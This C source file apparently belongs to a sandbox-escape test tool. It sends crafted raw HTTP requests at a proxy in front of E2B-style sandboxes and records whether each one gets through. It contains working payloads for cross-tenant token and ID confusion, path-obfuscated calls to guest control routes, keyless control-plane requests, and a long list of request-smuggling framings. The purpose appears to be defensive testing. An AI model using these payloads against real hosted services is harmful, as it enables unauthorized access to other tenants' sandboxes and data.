/* The proxy in front of the sandboxes: one sandbox's name with another's token, and the guest's own
 * control routes from outside. The neighbour's /dev/shm holds the mark; whoever gets it with the
 * attacker's token got to the neighbour. */
#include "cli/attack.h"

enum {
	REQUEST_MAX = 16 << 10,
	RESPONSE_MAX = 1 << 20,
	WAIT_MS = 3000,        /* for the end of a connection that is to be closed */
	FRAMING_WAIT_MS = 400, /* for what may come behind an answer; most stay open */
};

static const char confusion_title[] = "reach one sandbox with another's token";
static const char control_title[] = "call the guest's control routes from outside";

/* "HTTP/1.1 NNN": 0 when it is nothing of the kind. */
static int status_of(struct str answer)
{
	int64_t status = 0;

	if (answer.n < 12 || !str_has_prefix(answer, STR("HTTP/1.")) ||
		str_to_int(str_make(answer.p + 9, 3), 100, 599, &status) < 0)
		return 0;
	return (int)status;
}

/* One head with the names and tokens of both in it; %A %B are ids, %a %b tokens, %m the mark, %k
 * the length of the JSON that renews the attacker's own token, %j that JSON. */
static void expand(const struct attack *a, const char *pattern, struct buf *out)
{
	char json[CLI_TOKEN + 32];

	(void)snprintf(json, sizeof json, "{\"accessToken\":\"%s\"}", a->attacker.token);
	for (const char *p = pattern; *p; p++) {
		if (*p != '%') {
			(void)buf_addc(out, *p);
			continue;
		}
		switch (*++p) {
		case 'A':
			(void)buf_adds(out, a->attacker.id);
			break;
		case 'B':
			(void)buf_adds(out, a->neighbour.id);
			break;
		case 'a':
			(void)buf_adds(out, a->attacker.token);
			break;
		case 'b':
			(void)buf_adds(out, a->neighbour.token);
			break;
		case 'm':
			(void)buf_adds(out, a->mark);
			break;
		case 'k':
			(void)buf_printf(out, "%zu", strlen(json));
			break;
		case 'j':
			(void)buf_adds(out, json);
			break;
		case '0':
			(void)buf_addc(out, '\0');
			break;
		default:
			(void)buf_addc(out, *p);
			break;
		}
	}
}

static int send_pattern(struct attack *a, const char *pattern, int64_t wait_ms, struct buf *answer,
	struct err *e)
{
	CLEANUP(buf_done) struct buf request = BUF_INIT(REQUEST_MAX);

	expand(a, pattern, &request);
	if (request.failed)
		return err_set(e, -ENOBUFS, "too long");
	return attack_raw(a, buf_str(&request), wait_ms, answer, e);
}

/* ---- names and tokens ---- */

#define FILE_PATH "/files?username=user&path=/dev/shm/%m"
#define END "Connection: close\r\n\r\n"

static const struct {
	const char *name, *head;
} confusions[] = {
	{ "another's token",
		"GET " FILE_PATH " HTTP/1.1\r\nHost: localhost\r\nE2b-Sandbox-Id: %B\r\n"
		"E2b-Sandbox-Port: 49983\r\nX-Access-Token: %a\r\n" END },
	{ "no token", "GET " FILE_PATH " HTTP/1.1\r\nHost: localhost\r\nE2b-Sandbox-Id: %B\r\n"
		      "E2b-Sandbox-Port: 49983\r\n" END },
	{ "an empty token", "GET " FILE_PATH
			    " HTTP/1.1\r\nHost: 49983-%B.localhost\r\nX-Access-Token: \r\n" END },
	{ "by Host, another's token",
		"GET " FILE_PATH
		" HTTP/1.1\r\nHost: 49983-%B.localhost\r\nX-Access-Token: %a\r\n" END },
	{ "Host of one, header of the other",
		"GET " FILE_PATH " HTTP/1.1\r\nHost: 49983-%B.localhost\r\nE2b-Sandbox-Id: %A\r\n"
		"E2b-Sandbox-Port: 49983\r\nX-Access-Token: %a\r\n" END },
	{ "header of one, Host of the other",
		"GET " FILE_PATH " HTTP/1.1\r\nHost: 49983-%A.localhost\r\nE2b-Sandbox-Id: %B\r\n"
		"E2b-Sandbox-Port: 49983\r\nX-Access-Token: %a\r\n" END },
	{ "two ids",
		"GET " FILE_PATH " HTTP/1.1\r\nHost: localhost\r\nE2b-Sandbox-Id: %A\r\n"
		"E2b-Sandbox-Id: %B\r\nE2b-Sandbox-Port: 49983\r\nX-Access-Token: %a\r\n" END },
	{ "two ids, the other way",
		"GET " FILE_PATH " HTTP/1.1\r\nHost: localhost\r\nE2b-Sandbox-Id: %B\r\n"
		"E2b-Sandbox-Id: %A\r\nE2b-Sandbox-Port: 49983\r\nX-Access-Token: %a\r\n" END },
	{ "two ids in one header",
		"GET " FILE_PATH " HTTP/1.1\r\nHost: localhost\r\nE2b-Sandbox-Id: %A, %B\r\n"
		"E2b-Sandbox-Port: 49983\r\nX-Access-Token: %a\r\n" END },
	{ "two hosts", "GET " FILE_PATH
		       " HTTP/1.1\r\nHost: 49983-%A.localhost\r\nHost: 49983-%B.localhost\r\n"
		       "X-Access-Token: %a\r\n" END },
	{ "two tokens",
		"GET " FILE_PATH " HTTP/1.1\r\nHost: 49983-%B.localhost\r\nX-Access-Token: %a\r\n"
		"X-Access-Token: x\r\n" END },
	{ "absolute form", "GET http://49983-%B.localhost" FILE_PATH
			   " HTTP/1.1\r\nHost: 49983-%A.localhost\r\n"
			   "X-Access-Token: %a\r\n" END },
	{ "a token that the proxy is told to drop",
		"GET " FILE_PATH " HTTP/1.1\r\nHost: 49983-%B.localhost\r\nX-Access-Token: %a\r\n"
		"Connection: close, X-Access-Token\r\n\r\n" },
	{ "the id in capitals and with a dot",
		"GET " FILE_PATH " HTTP/1.1\r\nHost: 49983-%A.49983-%B.localhost\r\n"
		"X-Access-Token: %a\r\n" END },
	{ "a signature of the wrong token",
		"GET " FILE_PATH "&signature=v1_%a HTTP/1.1\r\nHost: 49983-%B.localhost\r\n" END },
};

static void confuse(struct attack *a)
{
	for (size_t i = 0; i < ARRAY_SIZE(confusions); i++) {
		CLEANUP(buf_done) struct buf answer = BUF_INIT(RESPONSE_MAX);
		struct err e = { 0 };
		int r = send_pattern(a, confusions[i].head, WAIT_MS, &answer, &e);

		if (r < 0)
			attack_say(a, "edge.confusion", "client", ATTACK_INCONCLUSIVE,
				confusion_title, "%s: %s", confusions[i].name, e.msg);
		else if (memmem(buf_str(&answer).p, answer.n, "\r\n\r\n", 4) &&
			 strstr(strstr(answer.p, "\r\n\r\n"), a->mark) &&
			 status_of(buf_str(&answer)) / 100 == 2)
			attack_say(a, "edge.confusion", "client", ATTACK_ESCAPED, confusion_title,
				"%s: the neighbour's file came", confusions[i].name);
		else
			attack_say(a, "edge.confusion", "client", ATTACK_REFUSED, confusion_title,
				"%s: status %d", confusions[i].name, status_of(buf_str(&answer)));
	}
}

/* That the file can be had with the right token: else its absence proves nothing. */
static bool can_succeed(struct attack *a)
{
	CLEANUP(buf_done) struct buf answer = BUF_INIT(RESPONSE_MAX);
	struct err e = { 0 };
	int r = send_pattern(a,
		"GET " FILE_PATH
		" HTTP/1.1\r\nHost: 49983-%B.localhost\r\nX-Access-Token: %b\r\n" END,
		WAIT_MS, &answer, &e);

	if (r == 0 && strstr(buf_str(&answer).p, a->mark))
		return true;
	attack_say(a, "edge.confusion", "client", ATTACK_INCONCLUSIVE, confusion_title,
		"even the right token does not get the file: status %d %s",
		status_of(buf_str(&answer)), e.msg);
	return false;
}

/* ---- control routes ---- */

static const char *const control_targets[] = { "/init", "/init/", "//init", "/./init", "/x/../init",
	"/%%69nit", "/%%69%%6e%%69%%74", "/init%%2f", "/init%%00", "/init?x=1", "/init#x", "/INIT",
	"/init;x", "/init/.", "/files/../init", "http://localhost/init", "/freeze", "/unfreeze",
	"/collapse", "/fsfreeze", "/fsthaw", "/upgrade", "\\init", "/init\\" };

static void control(struct attack *a)
{
	static const char *const names[] = {
		"Host: localhost\r\nE2b-Sandbox-Id: %A\r\nE2b-Sandbox-Port: 49983\r\n",
		"Host: 49983-%A.localhost\r\n",
		"Host: 049983-%A.localhost\r\n",
	};

	for (size_t i = 0; i < ARRAY_SIZE(control_targets); i++) {
		for (size_t j = 0; j < ARRAY_SIZE(names); j++) {
			CLEANUP(buf_done) struct buf answer = BUF_INIT(RESPONSE_MAX);
			const char *head = arena_printf(a->cli->arena,
				"POST %s HTTP/1.1\r\n%sX-Access-Token: %%a\r\n"
				"Content-Type: application/json\r\nContent-Length: %%k\r\n" END
				"%%j",
				control_targets[i], names[j]);
			struct err e = { 0 };
			int r = send_pattern(a, head, WAIT_MS, &answer, &e), status;

			status = status_of(buf_str(&answer));
			if (r < 0)
				attack_say(a, "edge.control", "client", ATTACK_INCONCLUSIVE,
					control_title, "%s: %s", control_targets[i], e.msg);
			else if (status / 100 == 2)
				attack_say(a, "edge.control", "client", ATTACK_ESCAPED,
					control_title, "POST %s: status %d", control_targets[i],
					status);
			else
				attack_say(a, "edge.control", "client", ATTACK_REFUSED,
					control_title, "POST %s: status %d", control_targets[i],
					status);
		}
	}
}

/* ---- without a key ---- */

static void without_key(struct attack *a)
{
	static const char title[] = "use the control plane without its key";
	static const char *const heads[] = {
		"GET /v2/sandboxes HTTP/1.1\r\nHost: localhost\r\n" END,
		"GET /v2/sandboxes HTTP/1.1\r\nHost: localhost\r\nX-API-Key: %a\r\n" END,
		"DELETE /sandboxes/%B HTTP/1.1\r\nHost: localhost\r\nX-API-Key: %a\r\n" END,
		"GET /sandboxes/%B HTTP/1.1\r\nHost: localhost\r\nX-Access-Token: %b\r\n" END,
		"GET /v2/sandboxes HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %a\r\n" END,
		"GET /v2/sandboxes HTTP/1.1\r\nHost: localhost\r\nX-API-Key: e2b_\r\n" END,
	};

	for (size_t i = 0; i < ARRAY_SIZE(heads); i++) {
		CLEANUP(buf_done) struct buf answer = BUF_INIT(RESPONSE_MAX);
		struct err e = { 0 };
		int r = send_pattern(a, heads[i], WAIT_MS, &answer, &e), status;

		status = status_of(buf_str(&answer));
		attack_say(a, "edge.key", "client",
			r < 0 || status == 0 ? ATTACK_INCONCLUSIVE
			: status / 100 == 2  ? ATTACK_ESCAPED
					     : ATTACK_REFUSED,
			title, "%.*s: status %d %s", (int)strcspn(heads[i], "\r"), heads[i], status,
			e.msg);
	}
}

void attack_edge(struct attack *a)
{
	if (can_succeed(a))
		confuse(a);
	control(a);
	without_key(a);
}

/* ---- framing ---- */

#define TO_A                                                                   \
	"Host: localhost\r\nE2b-Sandbox-Id: %A\r\nE2b-Sandbox-Port: 49983\r\n" \
	"X-Access-Token: %a\r\n"
/* What is smuggled: it works only where nobody looks at it but the guest. */
#define INNER                                                                          \
	"POST /init HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" \
	"Content-Length: %k\r\n\r\n%j"

static const struct {
	const char *name, *bytes;
} framings[] = {
	{ "length and chunks", "POST /health HTTP/1.1\r\n" TO_A
			       "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"
			       "\r\n0\r\n\r\n" INNER },
	{ "chunks and length", "POST /health HTTP/1.1\r\n" TO_A
			       "Transfer-Encoding: chunked\r\nContent-Length: 400\r\n"
			       "\r\n0\r\n\r\n" INNER },
	{ "chunks twice", "POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding: chunked\r\n"
			  "Transfer-Encoding: identity\r\n\r\n0\r\n\r\n" INNER },
	{ "unknown coding", "POST /health HTTP/1.1\r\n" TO_A
			    "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" INNER },
	{ "coding behind a tab",
		"POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding:\tchunked\x0b\r\n"
		"Content-Length: 5\r\n\r\n0\r\n\r\n" INNER },
	{ "space before the colon", "POST /health HTTP/1.1\r\n" TO_A
				    "Transfer-Encoding : chunked\r\nContent-Length: 5\r\n"
				    "\r\n0\r\n\r\n" INNER },
	{ "folded line", "POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding:\r\n chunked\r\n"
			 "Content-Length: 5\r\n\r\n0\r\n\r\n" INNER },
	{ "two lengths", "POST /health HTTP/1.1\r\n" TO_A
			 "Content-Length: 0\r\nContent-Length: 400\r\n\r\n" INNER },
	{ "length list", "POST /health HTTP/1.1\r\n" TO_A "Content-Length: 0, 400\r\n\r\n" INNER },
	{ "signed length", "POST /health HTTP/1.1\r\n" TO_A "Content-Length: +0\r\n\r\n" INNER },
	{ "negative length", "POST /health HTTP/1.1\r\n" TO_A "Content-Length: -1\r\n\r\n" INNER },
	{ "hexadecimal length",
		"POST /health HTTP/1.1\r\n" TO_A "Content-Length: 0x0\r\n\r\n" INNER },
	{ "huge chunk", "POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding: chunked\r\n\r\n"
			"10000000000000000\r\n" INNER },
	{ "negative chunk",
		"POST /health HTTP/1.1\r\n" TO_A "Transfer-Encoding: chunked\r\n\r\n-1\r\n" INNER },
	{ "chunk with a bare line feed", "POST /health HTTP/1.1\r\n" TO_A
					 "Transfer-Encoding: chunked\r\n\r\n0;\n\r\n" INNER },
	{ "bare line feeds", "GET /health HTTP/1.1\nHost: localhost\nE2b-Sandbox-Id: "
			     "%A\nE2b-Sandbox-Port: 49983\n"
			     "X-Access-Token: %a\n\n" INNER },
	{ "header with a NUL", "GET /health HTTP/1.1\r\n" TO_A "X-A: a%0\r\nB: c\r\n\r\n" INNER },
	{ "header with a carriage return", "GET /health HTTP/1.1\r\n" TO_A
					   "X-A: a\rTransfer-Encoding: chunked\r\n\r\n" INNER },
	{ "target with a line end",
		"GET /health%%0d%%0a%%0d%%0aPOST%%20/init HTTP/1.1\r\n" TO_A "\r\n" INNER },
	{ "HTTP/1.0 with chunks", "POST /health HTTP/1.0\r\n" TO_A
				  "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" INNER },
	{ "a body on GET", "GET /health HTTP/1.1\r\n" TO_A "Content-Length: 0\r\n\r\n" INNER },
	{ "upgrade to websocket",
		"GET /health HTTP/1.1\r\n" TO_A "Connection: Upgrade\r\nUpgrade: websocket\r\n"
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "
		"AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n" INNER },
	{ "upgrade to h2c", "GET /health HTTP/1.1\r\n" TO_A
			    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
			    "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" INNER },
	{ "upgrade with a body",
		"POST /health HTTP/1.1\r\n" TO_A "Connection: Upgrade\r\nUpgrade: anything\r\n"
		"Content-Length: 0\r\n\r\n" INNER },
	{ "CONNECT", "CONNECT localhost:49983 HTTP/1.1\r\n" TO_A "\r\n" INNER },
	{ "expect without waiting", "POST /files?path=/tmp/a-x&username=user HTTP/1.1\r\n" TO_A
				    "Expect: 100-continue\r\n"
				    "Content-Length: 0\r\n\r\n" INNER },
	{ "HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" INNER },
};

void attack_framing(struct attack *a)
{
	static const char title[] = "smuggle a request past the proxy";

	for (size_t i = 0; i < ARRAY_SIZE(framings) && !attack_is_stopped(a); i++) {
		CLEANUP(buf_done) struct buf answer = BUF_INIT(RESPONSE_MAX);
		struct err e = { 0 };
		int r = send_pattern(a, framings[i].bytes, FRAMING_WAIT_MS, &answer, &e);
		const char *inner = strstr(buf_str(&answer).p, " 204 ");

		/* /health answers 204, too: only what comes behind it is the smuggled one's. */
		if (inner && status_of(buf_str(&answer)) == 204)
			inner = strstr(inner + 1, " 204 ");
		if (r < 0)
			attack_say(a, "edge.framing", "client", ATTACK_INCONCLUSIVE, title,
				"%s: %s", framings[i].name, e.msg);
		else if (inner)
			attack_say(a, "edge.framing", "client", ATTACK_ESCAPED, title,
				"%s: the inner request was answered", framings[i].name);
		else
			attack_say(a, "edge.framing", "client", ATTACK_REFUSED, title,
				"%s: status %d", framings[i].name, status_of(buf_str(&answer)));
	}
}
